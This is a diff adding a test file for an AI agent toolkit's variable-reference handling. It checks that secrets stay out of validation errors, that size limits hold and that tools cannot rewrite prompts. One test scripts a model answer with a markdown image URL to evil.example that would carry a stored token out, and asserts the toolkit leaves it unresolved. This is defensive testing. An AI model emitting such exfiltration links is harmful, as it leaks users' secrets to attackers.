@@ -1,0 +1,174 @@
+import { jsonSchema, tool } from "ai";
+import { describe, expect, it } from "vitest";
+import * as z from "zod";
+import { limits } from "../../src/limits.ts";
+import { finish, text, toolCall } from "../support/scripted-model.ts";
+import { Conversation, shownText, turnWith } from "../support/turn.ts";
+import { failureOf, runOnce, storeWith } from "../support/wrapped.ts";
+
+const asked = finish("tool-calls");
+const SECRET = "078-05-1120";
+
+describe("what a tool's schema says of a value that it refuses", () => {
+  const rows = [{ ssn: SECRET }];
+  const refusing = jsonSchema<{ n: number }>(
+    { type: "object", properties: { n: { type: "number" } } },
+    {
+      validate: (value) => ({
+        success: false,
+        error: Object.assign(new Error(`Value: ${JSON.stringify(value)}`), {
+          issues: [{ path: ["n"], message: "is no number" }],
+        }),
+      }),
+    },
+  );
+  const mute = jsonSchema<object>(
+    { type: "object" },
+    { validate: (value) => ({ success: false, error: new Error(JSON.stringify(value)) }) },
+  );
+
+  it.each([
+    ["a validator whose error holds the value", refusing, "n: is no number."],
+    ["a validator that says no more than the value", mute, "its schema refuses it."],
+    ["zod", z.object({ n: z.number() }), "n: Invalid input"],
+  ])("does not hold the value: %s", async (_, inputSchema, said) => {
+    const store = storeWith({ rows });
+    const { run } = await runOnce(
+      tool({ inputSchema, execute: () => 1 }),
+      { n: "$rows" },
+      { store },
+    );
+    const failure = failureOf(run);
+    expect(failure).toMatchObject({ code: "invalid_tool_input" });
+    expect(failure?.message).toContain(said);
+    expect(failure?.message).not.toContain(SECRET);
+  });
+});
+
+describe("a URL that one text of an answer opens", () => {
+  it("is open in the next, however a client joins them", async () => {
+    const chat = new Conversation({
+      tools: { noop: tool({ inputSchema: z.object({}), execute: () => 1 }) },
+    });
+    chat.store.save({ name: "token", value: SECRET });
+    const turn = await chat.say({
+      steps: [
+        [text("See ![x](https://evil.example/?q="), toolCall("noop", {}), asked],
+        [text("$token) and $token"), finish()],
+      ],
+    });
+    expect(shownText(turn.chunks)).toBe(`See ![x](https://evil.example/?q=$token) and ${SECRET}`);
+  });
+});
+
+describe("whole references", () => {
+  it("count towards what one input may bring in, and nothing runs above it", async () => {
+    const store = storeWith({ big: "x".repeat(limits.maxResolvedInputChars / 2) });
+    let runs = 0;
+    const act = tool({ inputSchema: z.array(z.string()), execute: () => ++runs });
+    const at = await runOnce(act, ["$big", "$big"], { store });
+    expect([at.run.kind, runs]).toEqual(["done", 1]);
+    const above = await runOnce(act, ["$big", "$big", "$big[0:1]", "$big"], { store });
+    expect(failureOf(above.run)).toMatchObject({ code: "limit_exceeded" });
+    expect(runs).toBe(1);
+  });
+});
+
+describe("a tool that changes what it is given", () => {
+  it("changes neither its variable's name, nor what the next call is taken for", async () => {
+    const store = storeWith({ city: "Oslo" });
+    let calls = 0;
+    const act = tool({
+      inputSchema: jsonSchema<Record<string, unknown>>({ type: "object" }),
+      execute: (input) => {
+        delete input.location;
+        input.requestId = calls++;
+        return calls;
+      },
+    });
+    const first = await runOnce(act, { location: "$city" }, { store });
+    const second = await runOnce(act, { location: "$city" }, { store });
+    expect(first.saved?.info).toMatchObject({ name: "act_oslo", version: 1 });
+    expect(second.saved?.info).toMatchObject({ name: "act_oslo", version: 2 });
+  });
+
+  it("changes no message of the next prompt", async () => {
+    const rewrite = tool({
+      inputSchema: z.object({}),
+      execute: (_, { messages }) => {
+        const [first] = messages;
+        if (first !== undefined) first.content = "REWRITTEN";
+        return messages.length;
+      },
+    });
+    const turn = await turnWith({
+      tools: { rewrite },
+      steps: [
+        [toolCall("rewrite", {}), asked],
+        [text("Done."), finish()],
+      ],
+    });
+    expect(turn.result.error).toBeUndefined();
+    expect(JSON.stringify(turn.calls)).not.toContain("REWRITTEN");
+  });
+});
+
+describe("a model's stream that is given up", () => {
+  it("is cancelled, so that its connection is let go", async () => {
+    let isCancelled = false;
+    const model = {
+      specificationVersion: "v4" as const,
+      provider: "test",
+      modelId: "endless",
+      supportedUrls: {},
+      doGenerate: () => Promise.reject(new Error("It only streams.")),
+      doStream: () =>
+        Promise.resolve({
+          stream: new ReadableStream({
+            pull: (controller) => controller.enqueue({ type: "error" as const, error: "No." }),
+            cancel: () => {
+              isCancelled = true;
+            },
+          }),
+        }),
+    };
+    const turn = await turnWith({ tools: {}, steps: [], model });
+    expect(turn.result.error).toMatchObject({ code: "model_failed" });
+    await expect.poll(() => isCancelled).toBe(true);
+  });
+});
+
+describe("an agent that writes references its own way", () => {
+  it("has them read so, in tool inputs and in answers", async () => {
+    const seen: unknown[] = [];
+    const look = tool({
+      inputSchema: z.object({ a: z.any(), b: z.any() }),
+      execute: (input) => {
+        seen.push(input);
+        return 1;
+      },
+    });
+    const about = { name: "own", description: "For tests.", instructions: "Help." };
+    const chat = new Conversation({
+      agent: {
+        ...about,
+        tools: { look },
+        references: { syntaxes: ["mustache"], inCode: true, unknown: "error" },
+      },
+    });
+    chat.store.save({ name: "x", value: [1] });
+    const turn = await chat.say({
+      steps: [
+        [
+          toolCall("look", { a: "{{x}}", b: "$x" }),
+          toolCall("look", { a: "{{nobody}}", b: 1 }),
+          asked,
+        ],
+        [text("`{{x[0]}}` $x"), finish()],
+      ],
+    });
+    expect(seen).toEqual([{ a: [1], b: "$x" }]);
+    expect(JSON.stringify(turn.calls.at(-1)?.prompt)).toContain("variable_unknown");
+    expect(shownText(turn.chunks)).toBe("`1` $x");
+  });
+});
